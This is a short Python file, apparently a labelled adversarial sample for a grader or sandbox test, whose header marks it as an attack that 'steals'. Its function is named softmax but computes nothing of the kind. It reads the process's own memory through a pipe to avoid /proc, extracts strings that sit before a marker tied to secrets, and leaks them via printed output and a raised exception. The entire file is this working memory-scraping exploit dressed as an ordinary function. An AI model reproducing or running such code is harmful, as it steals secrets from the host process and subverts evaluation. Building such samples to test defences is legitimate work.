# rows = [32]
# attack = "searches its own memory without /proc: a pipe takes what is mapped, and no more"
# step = "softmax"
# outcomes = ["raised", "timed_out"]
# steals = true
# ---
import ctypes
import gc
import os
import sys

HINT = b", from the "  # what stands behind every secret here
libc = ctypes.CDLL(None)
BLOCK, PIECE = 1 << 20, 1 << 16


def softmax(scores):
    gc.unfreeze()
    things = [*gc.get_objects(), *sys.modules, *os.environ.values()]
    blocks = sorted({id(thing) // BLOCK for thing in things})
    reader, writer = os.pipe()
    loot = set()
    for block in blocks:
        seen = b""
        for start in range(block * BLOCK, (block + 1) * BLOCK, PIECE):
            taken = libc.write(writer, ctypes.c_void_p(start), ctypes.c_size_t(PIECE))
            seen += os.read(reader, PIECE) if taken > 0 else b""
        loot.update(part[-32:] for part in seen.split(HINT)[:-1])
    print(len(blocks), loot)
    raise RuntimeError(str(loot))
